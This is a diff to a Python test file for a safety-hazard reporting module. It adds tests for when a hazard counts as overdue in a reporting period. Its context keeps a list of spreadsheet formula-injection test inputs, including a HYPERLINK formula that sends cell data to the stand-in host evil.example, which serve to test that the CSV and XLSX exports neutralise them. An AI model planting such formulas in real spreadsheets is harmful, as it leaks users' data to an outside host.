@@ -1,5 +1,5 @@
-"""The joint meeting's report (supervision.reports) without a database: nobody's hazard title runs as
-a formula in the CSV or the XLSX."""
+"""The joint meeting's report (supervision.reports) without a database: when a hazard counts as
+overdue in a period, and that nobody's hazard title runs as a formula in the CSV or the XLSX."""
 
 from __future__ import annotations
 
@@ -8,10 +8,11 @@ import io
 from datetime import UTC, datetime
 
 import openpyxl
+import pytest
 
 from domain.hazards import Hazard, HazardLevel, HazardSource, HazardState
 from store.state.records import dt_to_ms, ms_to_dt
-from supervision.reports import ReportRow, to_csv, to_xlsx
+from supervision.reports import ReportRow, hazard_report, to_csv, to_xlsx
 
 HOUR = 3_600_000
 DAY = 24 * HOUR
@@ -24,6 +25,29 @@ def hazard(hid: str, listed: int, deadline: int, closed: int | None = None, titl
                   state=HazardState.LISTED if closed is None else HazardState.CLOSED,
                   listed_at=ms_to_dt(listed), deadline=ms_to_dt(deadline),
                   closed_at=None if closed is None else ms_to_dt(closed))
+
+
+def overdue(h: Hazard, start: int, end: int, now: int = NOW) -> int:
+    return hazard_report([h], ["north"], "street", start, end, at_ms=now)[-1].overdue
+
+
+def test_an_open_hazard_whose_deadline_is_still_ahead_is_not_overdue_in_a_period_ending_later() -> None:
+    h = hazard("1", NOW - DAY, NOW + 2 * HOUR)
+    assert overdue(h, NOW - 7 * DAY, NOW + 7 * DAY) == 0
+    assert overdue(h, NOW - 7 * DAY, NOW + 7 * DAY, now=NOW + 3 * HOUR) == 1  # once the deadline has passed
+
+
+@pytest.mark.parametrize(("closed", "start", "end", "want"), [
+    (NOW - DAY, NOW - 7 * DAY, NOW, 1),            # closed a day after its deadline: late inside the period
+    (NOW - 2 * DAY - HOUR, NOW - 7 * DAY, NOW, 0),  # closed an hour before its deadline
+    (NOW - DAY, NOW - HOUR, NOW, 0),               # late only before the period began
+    (None, NOW - HOUR, NOW + DAY, 1),              # still open and late now
+    (None, NOW + HOUR, NOW + DAY, 0),              # a period that has not begun yet
+])
+def test_late_is_from_the_deadline_until_closed_or_now(closed: int | None, start: int, end: int,
+                                                        want: int) -> None:
+    h = hazard("1", NOW - 5 * DAY, NOW - 2 * DAY, closed)
+    assert overdue(h, start, end) == want
 
 
 ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"详情")', "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"]
